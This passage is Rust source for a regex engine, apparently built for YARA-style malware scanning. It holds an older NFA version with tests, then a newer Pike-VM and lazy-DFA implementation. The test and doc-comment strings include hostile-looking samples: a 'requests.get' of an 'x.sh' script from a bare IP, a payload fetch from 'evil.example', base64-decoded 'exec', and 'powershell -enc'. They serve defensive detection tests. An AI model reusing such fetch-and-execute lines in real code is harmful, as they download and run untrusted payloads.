                self.compile(inner)?;
                let split_at = self.insts.len();
                self.insts.push(Inst::Split(start, split_at + 1));
                Ok(())
            }
            (0, Some(1)) => {
                // a? => split body, next
                let split_at = self.insts.len();
                self.insts.push(Inst::Split(0, 0));
                let body = self.insts.len();
                self.compile(inner)?;
                let next = self.insts.len();
                self.insts[split_at] = Inst::Split(body, next);
                Ok(())
            }
            (min, max) => {
                // Expand: min mandatory copies, then optional copies or star.
                for _ in 0..min {
                    self.compile(inner)?;
                }
                match max {
                    None => self.star(inner)?,
                    Some(max) => {
                        let mut splits = Vec::new();
                        for _ in min..max {
                            let split_at = self.insts.len();
                            self.insts.push(Inst::Split(0, 0));
                            splits.push(split_at);
                            let body = self.insts.len();
                            self.compile(inner)?;
                            // Patch later: split(body, end-of-all)
                            self.insts[split_at] = Inst::Split(body, 0);
                        }
                        let end = self.insts.len();
                        for s in splits {
                            if let Inst::Split(body, _) = self.insts[s] {
                                self.insts[s] = Inst::Split(body, end);
                            }
                        }
                    }
                }
                Ok(())
            }
        }
    }

    fn star(&mut self, inner: &Ast) -> Result<(), RegexError> {
        // L1: split L2, L3; L2: body; jmp L1; L3:
        let l1 = self.insts.len();
        self.insts.push(Inst::Split(0, 0));
        let l2 = self.insts.len();
        self.compile(inner)?;
        self.insts.push(Inst::Jmp(l1));
        let l3 = self.insts.len();
        self.insts[l1] = Inst::Split(l2, l3);
        Ok(())
    }
}

/// Breadth-first NFA simulator with thread de-duplication per step.
struct Vm<'p> {
    program: &'p Program,
    current: Vec<usize>,
    next: Vec<usize>,
    on_current: Vec<bool>,
    on_next: Vec<bool>,
}

impl<'p> Vm<'p> {
    fn new(program: &'p Program) -> Self {
        let n = program.insts.len();
        Vm {
            program,
            current: Vec::with_capacity(n),
            next: Vec::with_capacity(n),
            on_current: vec![false; n],
            on_next: vec![false; n],
        }
    }

    fn reset(&mut self) {
        self.current.clear();
        self.next.clear();
        self.on_current.iter_mut().for_each(|b| *b = false);
        self.on_next.iter_mut().for_each(|b| *b = false);
    }

    /// Follows epsilon transitions from `pc`, enqueueing byte/match
    /// instructions into the *next* (`into_next`) or *current* set.
    fn add_thread(
        &mut self,
        pc: usize,
        pos: usize,
        haystack: &[u8],
        into_next: bool,
        matched: &mut bool,
    ) {
        {
            let seen = if into_next {
                &mut self.on_next
            } else {
                &mut self.on_current
            };
            if seen[pc] {
                return;
            }
            seen[pc] = true;
        }
        let program = self.program;
        match &program.insts[pc] {
            Inst::Jmp(t) => {
                self.add_thread(*t, pos, haystack, into_next, matched);
            }
            Inst::Split(a, b) => {
                self.add_thread(*a, pos, haystack, into_next, matched);
                self.add_thread(*b, pos, haystack, into_next, matched);
            }
            Inst::AssertStart => {
                if pos == 0 {
                    self.add_thread(pc + 1, pos, haystack, into_next, matched);
                }
            }
            Inst::AssertEnd => {
                if pos == haystack.len() {
                    self.add_thread(pc + 1, pos, haystack, into_next, matched);
                }
            }
            Inst::AssertWord(expected) => {
                let before = pos > 0 && is_word_byte(haystack[pos - 1]);
                let after = pos < haystack.len() && is_word_byte(haystack[pos]);
                if (before != after) == *expected {
                    self.add_thread(pc + 1, pos, haystack, into_next, matched);
                }
            }
            Inst::Match => {
                *matched = true;
                if into_next {
                    self.next.push(pc);
                } else {
                    self.current.push(pc);
                }
            }
            Inst::Byte(_) => {
                if into_next {
                    self.next.push(pc);
                } else {
                    self.current.push(pc);
                }
            }
        }
    }

    /// One forward pass that seeds a new thread at every position; returns
    /// true if any match exists anywhere.
    fn any_match(&mut self, haystack: &[u8]) -> bool {
        self.reset();
        for pos in 0..=haystack.len() {
            let mut matched = false;
            self.add_thread(0, pos, haystack, false, &mut matched);
            if matched {
                return true;
            }
            if pos == haystack.len() {
                break;
            }
            let byte = haystack[pos];
            let current = std::mem::take(&mut self.current);
            let program = self.program;
            for pc in &current {
                if let Inst::Byte(class) = &program.insts[*pc] {
                    if class.matches(byte) {
                        let mut m = false;
                        self.add_thread(pc + 1, pos + 1, haystack, true, &mut m);
                        if m {
                            // A match completing at pos+1 — we only need
                            // existence here.
                            return true;
                        }
                    }
                }
            }
            std::mem::swap(&mut self.current, &mut self.next);
            self.next.clear();
            std::mem::swap(&mut self.on_current, &mut self.on_next);
            self.on_next.iter_mut().for_each(|b| *b = false);
        }
        false
    }

    /// Anchored simulation starting exactly at `start`; returns the longest
    /// match end, if any.
    fn longest_end(&mut self, haystack: &[u8], start: usize) -> Option<usize> {
        self.reset();
        let mut best: Option<usize> = None;
        let mut matched = false;
        self.add_thread(0, start, haystack, false, &mut matched);
        if matched {
            best = Some(start);
        }
        for pos in start..haystack.len() {
            if self.current.is_empty() {
                break;
            }
            let byte = haystack[pos];
            let current = std::mem::take(&mut self.current);
            let program = self.program;
            let mut any_match = false;
            for pc in &current {
                if let Inst::Byte(class) = &program.insts[*pc] {
                    if class.matches(byte) {
                        self.add_thread(pc + 1, pos + 1, haystack, true, &mut any_match);
                    }
                }
            }
            if any_match {
                best = Some(pos + 1);
            }
            std::mem::swap(&mut self.current, &mut self.next);
            self.next.clear();
            std::mem::swap(&mut self.on_current, &mut self.on_next);
            self.on_next.iter_mut().for_each(|b| *b = false);
        }
        best
    }
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn re(p: &str) -> Regex {
        Regex::new(p).unwrap_or_else(|e| panic!("compile {p:?}: {e}"))
    }

    #[test]
    fn literal_match() {
        let r = re("abc");
        assert!(r.is_match(b"xxabcxx"));
        assert!(!r.is_match(b"ab"));
    }

    #[test]
    fn find_reports_offsets() {
        let r = re("abc");
        let m = r.find(b"xxabcxx").unwrap();
        assert_eq!((m.start, m.end), (2, 5));
    }

    #[test]
    fn longest_match_preferred() {
        let r = re("a+");
        let m = r.find(b"caaab").unwrap();
        assert_eq!((m.start, m.end), (1, 4));
    }

    #[test]
    fn alternation_picks_leftmost() {
        let r = re("cat|dog");
        let m = r.find(b"hotdog cat").unwrap();
        assert_eq!(&b"hotdog cat"[m.start..m.end], b"dog");
    }

    #[test]
    fn star_matches_empty() {
        let r = re("x*");
        assert!(r.is_match(b""));
        let m = r.find(b"yyy").unwrap();
        assert!(m.is_empty());
    }

    #[test]
    fn bounded_repeat() {
        let r = re("(ab){2,3}");
        assert!(r.is_match(b"abab"));
        assert!(!r.is_match(b"ab"));
        let m = r.find(b"abababab").unwrap();
        assert_eq!(m.len(), 6); // longest = 3 copies
    }

    #[test]
    fn exact_repeat() {
        let r = re("a{3}");
        assert!(r.is_match(b"aaa"));
        assert!(!r.is_match(b"aa"));
    }

    #[test]
    fn anchors() {
        let r = re("^abc$");
        assert!(r.is_match(b"abc"));
        assert!(!r.is_match(b"xabc"));
        assert!(!r.is_match(b"abcx"));
    }

    #[test]
    fn start_anchor_mid_haystack_fails() {
        let r = re("^abc");
        assert!(!r.is_match(b"zabc"));
    }

    #[test]
    fn word_boundary() {
        let r = re(r"\beval\b");
        assert!(r.is_match(b"x = eval(y)"));
        assert!(!r.is_match(b"medieval times"));
    }

    #[test]
    fn not_word_boundary() {
        let r = re(r"\Beval");
        assert!(r.is_match(b"medieval"));
        assert!(!r.is_match(b"eval(x)"));
    }

    #[test]
    fn dot_does_not_cross_newline() {
        let r = re("a.c");
        assert!(r.is_match(b"abc"));
        assert!(!r.is_match(b"a\nc"));
    }

    #[test]
    fn classes_and_escapes() {
        let r = re(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}");
        assert!(r.is_match(b"connect to 185.62.190.159 now"));
        assert!(!r.is_match(b"no ip here"));
    }

    #[test]
    fn base64_blob_pattern() {
        // The pattern from Table I of the paper (simplified).
        let r = re(r"([A-Za-z0-9+/]{4}){3,}(==|=)?");
        assert!(r.is_match(b"exec(b64decode('aW1wb3J0IG9zCg=='))"));
    }

    #[test]
    fn nocase_matching() {
        let r = Regex::new_nocase("powershell").unwrap();
        assert!(r.is_match(b"POWERSHELL -enc ..."));
        assert!(r.is_match(b"PowerShell"));
    }

    #[test]
    fn find_all_non_overlapping() {
        let r = re("aa");
        let all = r.find_all(b"aaaa");
        assert_eq!(all.len(), 2);
        assert_eq!(all[0], Match { start: 0, end: 2 });
        assert_eq!(all[1], Match { start: 2, end: 4 });
    }

    #[test]
    fn find_all_counts_occurrences() {
        let r = re(r"os\.system");
        let hay = b"os.system('a'); os.system('b'); os.popen('c')";
        assert_eq!(r.find_all(hay).len(), 2);
    }

    #[test]
    fn find_all_empty_haystack() {
        let r = re("abc");
        assert!(r.find_all(b"").is_empty());
    }

    #[test]
    fn url_pattern() {
        let r = re(r"https?://[\w.\-/]+");
        let m = r.find(b"requests.get('http://1.2.3.4/x.sh')").unwrap();
        assert_eq!(
            &b"requests.get('http://1.2.3.4/x.sh')"[m.start..m.end],
            b"http://1.2.3.4/x.sh"
        );
    }

    #[test]
    fn nested_groups() {
        let r = re("(a(b|c)d)+");
        assert!(r.is_match(b"abdacd"));
        let m = r.find(b"abdacdx").unwrap();
        assert_eq!(m.len(), 6);
    }

    #[test]
    fn binary_haystack() {
        let r = re(r"\x00\x01");
        assert!(r.is_match(&[0x42, 0x00, 0x01, 0x99]));
    }

    #[test]
    fn program_len_reported() {
        let r = re("abc");
        assert!(r.program().len() >= 4);
        assert!(!r.program().is_empty());
    }
}

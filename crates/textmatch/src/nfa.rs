//! Thompson-NFA compiler and a single-pass Pike virtual machine.
//!
//! The VM runs one breadth-first forward pass over the haystack. Threads
//! carry their start offset, a fresh thread is seeded at each position,
//! and leftmost-longest semantics fall out of thread priority (earliest
//! start wins, then longest end), so `find`/`find_all` cost
//! `O(len * insts)` instead of the restart-per-offset `O(len^2 * insts)`
//! (that engine survives as [`crate::ReferenceRegex`], the differential
//! oracle and bench baseline). A compile-time [`ScanInfo`] analysis adds
//! literal acceleration: a mandatory-prefix skip loop and a
//! start-anchored fast path that seeds offset 0 only. Bounded
//! repetitions are expanded at compile time (the parser caps bounds at
//! 1000).
//!
//! [`ScanInfo`]: crate::ScanInfo

use crate::ast::{Ast, Quantifier};
use crate::charclass::CharClass;
use crate::dfa::{DfaOutcome, DfaPrefab, LazyDfa};
use crate::error::RegexError;
use crate::literal::{analyze, ScanInfo};
use crate::parser::parse;

/// A byte class baked into a 256-bit bitmap, so the per-thread byte test
/// in the VM's innermost loop is a single shift-and-mask instead of a
/// range scan.
#[derive(Debug, Clone)]
pub(crate) struct ByteSet([u64; 4]);

impl ByteSet {
    fn from_class(class: &CharClass) -> Self {
        let mut words = [0u64; 4];
        for b in 0..=255u8 {
            if class.matches(b) {
                words[(b >> 6) as usize] |= 1u64 << (b & 63);
            }
        }
        ByteSet(words)
    }

    #[inline]
    pub(crate) fn matches(&self, b: u8) -> bool {
        (self.0[(b >> 6) as usize] >> (b & 63)) & 1 != 0
    }
}

/// A single VM instruction.
#[derive(Debug, Clone)]
pub(crate) enum Inst {
    /// Consume one byte matching the class.
    Byte(ByteSet),
    /// Fork execution; the first target has priority.
    Split(usize, usize),
    /// Unconditional jump.
    Jmp(usize),
    /// Pattern fully matched.
    Match,
    /// `^` assertion.
    AssertStart,
    /// `$` assertion.
    AssertEnd,
    /// `\b` (true) or `\B` (false) assertion.
    AssertWord(bool),
}

/// A compiled regular-expression program.
///
/// Obtain one through [`Regex::new`]; exposed for size introspection in
/// benchmarks.
#[derive(Debug, Clone)]
pub struct Program {
    pub(crate) insts: Vec<Inst>,
}

impl Program {
    /// Number of VM instructions — a proxy for compiled size.
    pub fn len(&self) -> usize {
        self.insts.len()
    }

    /// Returns true when the program contains no instructions.
    pub fn is_empty(&self) -> bool {
        self.insts.is_empty()
    }
}

/// A span of the haystack matched by a [`Regex`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Match {
    /// Byte offset of the first matched byte.
    pub start: usize,
    /// Byte offset one past the last matched byte.
    pub end: usize,
}

impl Match {
    /// Length of the match in bytes.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// Returns true for an empty match.
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}

/// A compiled regular expression.
///
/// # Examples
///
/// ```
/// use textmatch::Regex;
///
/// let re = Regex::new(r"https?://[\w./-]+")?;
/// let m = re.find(b"GET http://evil.example/payload.bin").unwrap();
/// assert_eq!(m.start, 4);
/// # Ok::<(), textmatch::RegexError>(())
/// ```
#[derive(Debug, Clone)]
pub struct Regex {
    pattern: String,
    program: Program,
    scan: ScanInfo,
    dfa: Option<DfaPrefab>,
}

/// Haystacks shorter than this skip the lazy-DFA gate: per-call setup
/// would dominate, and the Pike VM finishes tiny inputs immediately.
const DFA_MIN_HAYSTACK: usize = 64;

impl Regex {
    /// Compiles `pattern` into an executable program.
    ///
    /// # Errors
    ///
    /// Returns [`RegexError`] for any syntax error; the offset points into
    /// `pattern`.
    pub fn new(pattern: &str) -> Result<Self, RegexError> {
        Self::with_case(pattern, true)
    }

    /// Compiles `pattern` case-insensitively (YARA `/re/i` or `nocase`).
    ///
    /// # Errors
    ///
    /// Same conditions as [`Regex::new`].
    pub fn new_nocase(pattern: &str) -> Result<Self, RegexError> {
        Self::with_case(pattern, false)
    }

    fn with_case(pattern: &str, case_sensitive: bool) -> Result<Self, RegexError> {
        let ast = parse(pattern)?;
        let mut compiler = Compiler {
            insts: Vec::new(),
            case_sensitive,
        };
        compiler.compile(&ast)?;
        compiler.insts.push(Inst::Match);
        let program = Program {
            insts: compiler.insts,
        };
        let scan = analyze(&program);
        let dfa = crate::dfa::analyze_dfa(&program);
        Ok(Regex {
            pattern: pattern.to_owned(),
            program,
            scan,
            dfa,
        })
    }

    /// The original pattern text.
    pub fn pattern(&self) -> &str {
        &self.pattern
    }

    /// The compiled program (for size introspection).
    pub fn program(&self) -> &Program {
        &self.program
    }

    /// The literal-acceleration hints extracted at compile time.
    pub fn scan_info(&self) -> &ScanInfo {
        &self.scan
    }

    /// Whether the lazy-DFA tier accepts this program (no word-boundary
    /// assertions, program within the determinization size cap).
    pub fn dfa_eligible(&self) -> bool {
        self.dfa.is_some()
    }

    /// The DFA prefab when both the program and the haystack qualify.
    fn dfa_for(&self, haystack: &[u8]) -> Option<&DfaPrefab> {
        if haystack.len() >= DFA_MIN_HAYSTACK {
            self.dfa.as_ref()
        } else {
            None
        }
    }

    /// Tests whether the pattern matches anywhere in `haystack`.
    ///
    /// Eligible patterns run the lazy DFA (one table transition per byte);
    /// ineligible or thrashing scans use the Pike VM. Returns as soon as
    /// any match is known to exist.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        if let Some(prefab) = self.dfa_for(haystack) {
            let mut dfa = LazyDfa::new(&self.program, prefab);
            match dfa.earliest_end(haystack, 0, &self.scan) {
                DfaOutcome::NoMatch => return false,
                DfaOutcome::MatchEnd(_) => return true,
                DfaOutcome::GaveUp => {}
            }
        }
        Vm::new(&self.program).exists(haystack, &self.scan)
    }

    /// Pike-VM-only existence test — the pre-DFA baseline, kept public
    /// (hidden) for differential tests and benchmarks.
    #[doc(hidden)]
    pub fn is_match_pike(&self, haystack: &[u8]) -> bool {
        Vm::new(&self.program).exists(haystack, &self.scan)
    }

    /// DFA existence outcome for differential tests: `None` when the
    /// program is ineligible, `Some(outcome)` otherwise (no haystack-size
    /// gate, so small corpora still exercise the DFA).
    #[doc(hidden)]
    pub fn dfa_earliest_end(&self, haystack: &[u8], from: usize) -> Option<DfaOutcome> {
        let prefab = self.dfa.as_ref()?;
        let mut dfa = LazyDfa::new(&self.program, prefab);
        Some(dfa.earliest_end(haystack, from, &self.scan))
    }

    /// Finds the leftmost-longest match.
    pub fn find(&self, haystack: &[u8]) -> Option<Match> {
        self.find_at(haystack, 0)
    }

    /// Finds the leftmost-longest match starting at or after `from`.
    ///
    /// The lazy DFA answers "is there any match at all?" first (a no is
    /// the common case on scan workloads and costs one table transition
    /// per byte); only a yes pays for Pike-VM span extraction.
    pub fn find_at(&self, haystack: &[u8], from: usize) -> Option<Match> {
        if let Some(prefab) = self.dfa_for(haystack) {
            let mut dfa = LazyDfa::new(&self.program, prefab);
            match dfa.earliest_end(haystack, from, &self.scan) {
                DfaOutcome::NoMatch => return None,
                DfaOutcome::MatchEnd(_) | DfaOutcome::GaveUp => {}
            }
        }
        Vm::new(&self.program).find(haystack, from, &self.scan)
    }

    /// Returns all non-overlapping leftmost-longest matches.
    ///
    /// Empty matches advance the scan position by one byte so the iteration
    /// always terminates. The lazy DFA gates each iteration: the final
    /// (matchless) tail — the whole haystack, in the common no-hit case —
    /// is scanned at DFA speed instead of thread-set speed, and the state
    /// cache is shared across iterations.
    pub fn find_all(&self, haystack: &[u8]) -> Vec<Match> {
        let mut out = Vec::new();
        let mut vm = Vm::new(&self.program);
        let mut dfa = self
            .dfa_for(haystack)
            .map(|prefab| LazyDfa::new(&self.program, prefab));
        let mut pos = 0;
        while pos <= haystack.len() {
            if let Some(d) = dfa.as_mut() {
                match d.earliest_end(haystack, pos, &self.scan) {
                    DfaOutcome::NoMatch => break,
                    DfaOutcome::MatchEnd(_) => {}
                    DfaOutcome::GaveUp => dfa = None,
                }
            }
            match vm.find(haystack, pos, &self.scan) {
                Some(m) => {
                    pos = if m.end > m.start { m.end } else { m.start + 1 };
                    out.push(m);
                }
                None => break,
            }
        }
        out
    }

    /// Pike-VM-only `find_all` — the pre-DFA baseline, kept public
    /// (hidden) for differential tests and benchmarks.
    #[doc(hidden)]
    pub fn find_all_pike(&self, haystack: &[u8]) -> Vec<Match> {
        let mut out = Vec::new();
        let mut vm = Vm::new(&self.program);
        let mut pos = 0;
        while pos <= haystack.len() {
            match vm.find(haystack, pos, &self.scan) {
                Some(m) => {
                    pos = if m.end > m.start { m.end } else { m.start + 1 };
                    out.push(m);
                }
                None => break,
            }
        }
        out
    }
}

struct Compiler {
    insts: Vec<Inst>,
    case_sensitive: bool,
}

impl Compiler {
    fn compile(&mut self, ast: &Ast) -> Result<(), RegexError> {
        if self.insts.len() > 65_536 {
            return Err(RegexError::new(0, "compiled program too large"));
        }
        match ast {
            Ast::Empty => Ok(()),
            Ast::Class(c) => {
                let mut class = c.clone();
                if !self.case_sensitive {
                    class.make_case_insensitive();
                }
                self.insts.push(Inst::Byte(ByteSet::from_class(&class)));
                Ok(())
            }
            Ast::Concat(parts) => {
                for p in parts {
                    self.compile(p)?;
                }
                Ok(())
            }
            Ast::Group(inner) => self.compile(inner),
            Ast::Alternate(branches) => {
                // Chain of splits: s1 -> b1 | (s2 -> b2 | ...)
                let mut jumps = Vec::new();
                for (i, branch) in branches.iter().enumerate() {
                    if i + 1 < branches.len() {
                        let split_at = self.insts.len();
                        self.insts.push(Inst::Split(0, 0));
                        let b_start = self.insts.len();
                        self.compile(branch)?;
                        jumps.push(self.insts.len());
                        self.insts.push(Inst::Jmp(0));
                        let next = self.insts.len();
                        self.insts[split_at] = Inst::Split(b_start, next);
                    } else {
                        self.compile(branch)?;
                    }
                }
                let end = self.insts.len();
                for j in jumps {
                    self.insts[j] = Inst::Jmp(end);
                }
                Ok(())
            }
            Ast::Repeat(inner, q) => self.compile_repeat(inner, q),
            Ast::StartAnchor => {
                self.insts.push(Inst::AssertStart);
                Ok(())
            }
            Ast::EndAnchor => {
                self.insts.push(Inst::AssertEnd);
                Ok(())
            }
            Ast::WordBoundary => {
                self.insts.push(Inst::AssertWord(true));
                Ok(())
            }
            Ast::NotWordBoundary => {
                self.insts.push(Inst::AssertWord(false));
                Ok(())
            }
        }
    }

    fn compile_repeat(&mut self, inner: &Ast, q: &Quantifier) -> Result<(), RegexError> {
        match (q.min, q.max) {
            (0, None) => self.star(inner),
            (1, None) => {
                // a+  =>  L: a; split L, next
                let start = self.insts.len();
                self.compile(inner)?;
                let split_at = self.insts.len();
                self.insts.push(Inst::Split(start, split_at + 1));
                Ok(())
            }
            (0, Some(1)) => {
                // a? => split body, next
                let split_at = self.insts.len();
                self.insts.push(Inst::Split(0, 0));
                let body = self.insts.len();
                self.compile(inner)?;
                let next = self.insts.len();
                self.insts[split_at] = Inst::Split(body, next);
                Ok(())
            }
            (min, max) => {
                // Expand: min mandatory copies, then optional copies or star.
                for _ in 0..min {
                    self.compile(inner)?;
                }
                match max {
                    None => self.star(inner)?,
                    Some(max) => {
                        let mut splits = Vec::new();
                        for _ in min..max {
                            let split_at = self.insts.len();
                            self.insts.push(Inst::Split(0, 0));
                            splits.push(split_at);
                            let body = self.insts.len();
                            self.compile(inner)?;
                            // Patch later: split(body, end-of-all)
                            self.insts[split_at] = Inst::Split(body, 0);
                        }
                        let end = self.insts.len();
                        for s in splits {
                            if let Inst::Split(body, _) = self.insts[s] {
                                self.insts[s] = Inst::Split(body, end);
                            }
                        }
                    }
                }
                Ok(())
            }
        }
    }

    fn star(&mut self, inner: &Ast) -> Result<(), RegexError> {
        // L1: split L2, L3; L2: body; jmp L1; L3:
        let l1 = self.insts.len();
        self.insts.push(Inst::Split(0, 0));
        let l2 = self.insts.len();
        self.compile(inner)?;
        self.insts.push(Inst::Jmp(l1));
        let l3 = self.insts.len();
        self.insts[l1] = Inst::Split(l2, l3);
        Ok(())
    }
}

/// Sparse thread set: a dense `(pc, start)` list plus a generation-stamped
/// membership array, so clearing between input bytes is O(live threads)
/// with no per-byte reallocation or flag sweeps.
struct ThreadSet {
    dense: Vec<(usize, usize)>,
    stamp: Vec<u64>,
    gen: u64,
}

impl ThreadSet {
    fn new(n: usize) -> Self {
        ThreadSet {
            dense: Vec::with_capacity(n),
            stamp: vec![0; n],
            gen: 1,
        }
    }

    fn clear(&mut self) {
        self.dense.clear();
        self.gen += 1;
    }

    fn is_empty(&self) -> bool {
        self.dense.is_empty()
    }
}

/// Adds the epsilon closure of `pc` at `pos` to `set`, for a thread whose
/// match began at `start`. Sets `matched` when a `Match` instruction is
/// reachable, i.e. the thread matches `haystack[start..pos]`.
///
/// Deduplication is first-wins per program counter: callers enqueue
/// threads in priority order (ascending start), so an earlier start keeps
/// ownership of a pc — exactly the leftmost bias the contract requires.
#[allow(clippy::too_many_arguments)]
fn follow(
    program: &Program,
    set: &mut ThreadSet,
    stack: &mut Vec<usize>,
    pc: usize,
    start: usize,
    pos: usize,
    haystack: &[u8],
    matched: &mut bool,
) {
    debug_assert!(stack.is_empty());
    stack.push(pc);
    while let Some(pc) = stack.pop() {
        if set.stamp[pc] == set.gen {
            continue;
        }
        set.stamp[pc] = set.gen;
        match &program.insts[pc] {
            Inst::Jmp(t) => stack.push(*t),
            Inst::Split(a, b) => {
                stack.push(*b);
                stack.push(*a);
            }
            Inst::AssertStart => {
                if pos == 0 {
                    stack.push(pc + 1);
                }
            }
            Inst::AssertEnd => {
                if pos == haystack.len() {
                    stack.push(pc + 1);
                }
            }
            Inst::AssertWord(expected) => {
                let before = pos > 0 && is_word_byte(haystack[pos - 1]);
                let after = pos < haystack.len() && is_word_byte(haystack[pos]);
                if (before != after) == *expected {
                    stack.push(pc + 1);
                }
            }
            Inst::Match => *matched = true,
            Inst::Byte(_) => set.dense.push((pc, start)),
        }
    }
}

/// Records a match candidate under leftmost-longest resolution: an earlier
/// start always wins; for equal starts the longer end wins.
fn update_best(best: &mut Option<Match>, start: usize, end: usize) {
    match best {
        Some(b) if start > b.start => {}
        Some(b) if start == b.start && end <= b.end => {}
        _ => *best = Some(Match { start, end }),
    }
}

/// Single-pass Pike VM: breadth-first simulation with per-step thread
/// de-duplication, position-carrying threads and literal-accelerated
/// seeding.
struct Vm<'p> {
    program: &'p Program,
    clist: ThreadSet,
    nlist: ThreadSet,
    stack: Vec<usize>,
}

impl<'p> Vm<'p> {
    fn new(program: &'p Program) -> Self {
        let n = program.insts.len();
        Vm {
            program,
            clist: ThreadSet::new(n),
            nlist: ThreadSet::new(n),
            stack: Vec::with_capacity(n),
        }
    }

    /// Leftmost-longest match at or after `from`, in one forward pass.
    fn find(&mut self, haystack: &[u8], from: usize, scan: &ScanInfo) -> Option<Match> {
        self.run(haystack, from, scan, false)
    }

    /// Existence-only variant: returns as soon as any match is reached
    /// (the reported span is the first completion, not leftmost-longest).
    fn exists(&mut self, haystack: &[u8], scan: &ScanInfo) -> bool {
        self.run(haystack, 0, scan, true).is_some()
    }

    /// The scan loop shared by both entry points. With `earliest` set the
    /// first `Match` instruction reached ends the scan; otherwise the loop
    /// runs leftmost-longest resolution to completion.
    fn run(
        &mut self,
        haystack: &[u8],
        from: usize,
        scan: &ScanInfo,
        earliest: bool,
    ) -> Option<Match> {
        // An out-of-range start cannot match anything (the seed engine's
        // `from..=len` loop was simply empty).
        if from > haystack.len() {
            return None;
        }
        // `^`-anchored fast path: the only viable seed is offset 0.
        if scan.is_start_anchored() && from > 0 {
            return None;
        }
        self.clist.clear();
        let mut best: Option<Match> = None;
        let mut pos = from;
        loop {
            if best.is_none() && self.clist.is_empty() {
                // The set is dense-empty but may still carry dedup stamps
                // from closures evaluated at an earlier offset (a failed
                // seed or a step whose threads all died on assertions).
                // Clear them so position-dependent assertions are
                // re-evaluated wherever we seed next — especially after
                // the acceleration jump below moves `pos`.
                self.clist.clear();
                if scan.is_start_anchored() {
                    if pos > from {
                        return None;
                    }
                } else {
                    // Literal acceleration: no live thread and no match
                    // yet, so jump straight to the next offset where a
                    // match could possibly begin.
                    pos = scan.next_candidate(haystack, pos)?;
                }
            }
            // Seed a thread at this offset unless the leftmost match start
            // is already pinned (later seeds can only lose).
            if best.is_none()
                && !(scan.is_start_anchored() && pos > 0)
                && scan.can_start_at(haystack, pos)
            {
                let mut matched = false;
                follow(
                    self.program,
                    &mut self.clist,
                    &mut self.stack,
                    0,
                    pos,
                    pos,
                    haystack,
                    &mut matched,
                );
                if matched {
                    if earliest {
                        return Some(Match {
                            start: pos,
                            end: pos,
                        });
                    }
                    update_best(&mut best, pos, pos);
                }
            }
            if pos == haystack.len() {
                break;
            }
            if self.clist.is_empty() {
                if best.is_some() {
                    break; // No live thread can improve on the match.
                }
                pos += 1;
                continue;
            }
            let byte = haystack[pos];
            self.nlist.clear();
            let program = self.program;
            for i in 0..self.clist.dense.len() {
                let (pc, start) = self.clist.dense[i];
                if let Some(b) = &best {
                    if start > b.start {
                        continue; // Pruned: cannot beat the leftmost start.
                    }
                }
                if let Inst::Byte(class) = &program.insts[pc] {
                    if class.matches(byte) {
                        let mut matched = false;
                        follow(
                            program,
                            &mut self.nlist,
                            &mut self.stack,
                            pc + 1,
                            start,
                            pos + 1,
                            haystack,
                            &mut matched,
                        );
                        if matched {
                            if earliest {
                                return Some(Match {
                                    start,
                                    end: pos + 1,
                                });
                            }
                            update_best(&mut best, start, pos + 1);
                        }
                    }
                }
            }
            std::mem::swap(&mut self.clist, &mut self.nlist);
            pos += 1;
        }
        best
    }
}

pub(crate) fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn re(p: &str) -> Regex {
        Regex::new(p).unwrap_or_else(|e| panic!("compile {p:?}: {e}"))
    }

    #[test]
    fn literal_match() {
        let r = re("abc");
        assert!(r.is_match(b"xxabcxx"));
        assert!(!r.is_match(b"ab"));
    }

    #[test]
    fn find_reports_offsets() {
        let r = re("abc");
        let m = r.find(b"xxabcxx").unwrap();
        assert_eq!((m.start, m.end), (2, 5));
    }

    #[test]
    fn longest_match_preferred() {
        let r = re("a+");
        let m = r.find(b"caaab").unwrap();
        assert_eq!((m.start, m.end), (1, 4));
    }

    #[test]
    fn alternation_picks_leftmost() {
        let r = re("cat|dog");
        let m = r.find(b"hotdog cat").unwrap();
        assert_eq!(&b"hotdog cat"[m.start..m.end], b"dog");
    }

    #[test]
    fn leftmost_beats_longer_later_match() {
        // "hot" starts earlier than the longer "dogs"; leftmost wins.
        let r = re("hot|dogs");
        let m = r.find(b"xhotdogs").unwrap();
        assert_eq!((m.start, m.end), (1, 4));
        // Equal starts: the longer alternative wins instead.
        let r = re("ho|hotdog");
        let m = r.find(b"xhotdog").unwrap();
        assert_eq!((m.start, m.end), (1, 7));
    }

    #[test]
    fn equal_start_prefers_longest_branch() {
        let r = re("ab|abc");
        let m = r.find(b"zabcz").unwrap();
        assert_eq!((m.start, m.end), (1, 4));
    }

    #[test]
    fn late_match_from_earlier_start_wins() {
        // The start-0 thread stays alive past the start-1 match and must
        // reclaim the result when it finally completes.
        let r = re("a.*z|bc");
        let m = r.find(b"abcz").unwrap();
        assert_eq!((m.start, m.end), (0, 4));
        // ... but when the earlier thread dies without matching, the later
        // start is the correct answer.
        let m = r.find(b"abcy").unwrap();
        assert_eq!((m.start, m.end), (1, 3));
    }

    #[test]
    fn star_matches_empty() {
        let r = re("x*");
        assert!(r.is_match(b""));
        let m = r.find(b"yyy").unwrap();
        assert!(m.is_empty());
    }

    #[test]
    fn bounded_repeat() {
        let r = re("(ab){2,3}");
        assert!(r.is_match(b"abab"));
        assert!(!r.is_match(b"ab"));
        let m = r.find(b"abababab").unwrap();
        assert_eq!(m.len(), 6); // longest = 3 copies
    }

    #[test]
    fn exact_repeat() {
        let r = re("a{3}");
        assert!(r.is_match(b"aaa"));
        assert!(!r.is_match(b"aa"));
    }

    #[test]
    fn anchors() {
        let r = re("^abc$");
        assert!(r.is_match(b"abc"));
        assert!(!r.is_match(b"xabc"));
        assert!(!r.is_match(b"abcx"));
    }

    #[test]
    fn start_anchor_mid_haystack_fails() {
        let r = re("^abc");
        assert!(!r.is_match(b"zabc"));
    }

    #[test]
    fn anchored_find_at_nonzero_offset_is_none() {
        let r = re("^abc");
        assert_eq!(r.find_at(b"abcabc", 0), Some(Match { start: 0, end: 3 }));
        assert_eq!(r.find_at(b"abcabc", 1), None);
        assert_eq!(r.find_all(b"abcabc").len(), 1);
    }

    #[test]
    fn end_anchor_alone_matches_at_end() {
        let r = re("$");
